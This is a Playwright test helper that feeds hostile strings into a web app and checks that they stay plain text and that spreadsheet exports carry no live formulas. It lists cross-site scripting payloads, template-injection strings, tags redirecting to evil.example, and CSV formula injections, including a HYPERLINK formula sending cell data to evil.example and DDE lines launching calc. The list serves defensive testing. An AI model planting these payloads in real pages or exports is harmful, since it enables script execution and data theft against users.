import { expect, type Page } from '@playwright/test';

/**
 * Texts that run something where they are taken for markup, an address, a template, a style or a
 * formula. Wherever one becomes an element, the element carries `data-hostile`.
 */
export const SCRIPTS = [
  '<script data-hostile>alert(1)</script>',
  '"><img data-hostile src=x onerror=alert(1)>',
  "'><svg data-hostile onload=alert(1)>",
  '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</title></textarea></style><script data-hostile>alert(1)</script>',
  '<a data-hostile href="javascript:alert(1)">x</a>',
  '<style data-hostile>*{display:none}</style>',
  '<base data-hostile href="https://evil.example/">',
  '<meta data-hostile http-equiv=refresh content="0;url=https://evil.example">',
  '<form data-hostile action="https://evil.example"><button>x</button></form>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a template would have it
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  'javascript:alert(1)//https://evil.example',
] as const;

/** What a spreadsheet would run; each cell of an export must begin otherwise. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+cmd|' /C calc'!A1",
  "-2+3+cmd|' /C calc'!A1",
  "@SUM(1+1)*cmd|' /C calc'!A1",
  '=1+1";=1+1',
  '＝1+1',
] as const;

/** The n-th text, of both kinds in turn. */
export function hostileText(n: number): string {
  const all = [...SCRIPTS, ...FORMULAS];
  return all[n % all.length] ?? '';
}

/** Counts what a page asks of a person or loads from elsewhere. */
export class ScriptWatch {
  readonly seen: string[] = [];

  /** From now on, on all pages of this page's context. */
  watch(page: Page, own: string): void {
    page.context().on('dialog', async (dialog) => {
      this.seen.push(`dialog: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.context().on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(own) && !/^(data|blob|about):/.test(url))
        this.seen.push(`request: ${url}`);
    });
  }
}

/** What of a text has become an element, if anything has. */
export function hostileElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const elements = document.querySelectorAll('[data-hostile], base, [href^="javascript:" i]');
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name }) => /^on[a-z]+$/.test(name)),
    );
    return [...elements, ...handlers].map((element) => element.outerHTML.slice(0, 200));
  });
}

/** Texts are texts, and none has become an element. */
export async function expectOnlyText(page: Page, where: string): Promise<void> {
  expect(await hostileElements(page), where).toEqual([]);
}

/** No cell begins with what a spreadsheet runs; numbers are no formulas. */
export function expectNoFormula(rows: string[][], where: string): void {
  expect(rows.length, where).toBeGreaterThan(1);
  for (const cell of rows.flat()) {
    if (!/^-?\d+([.,:]\d+)*$/.test(cell))
      expect(cell, where).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
  }
}
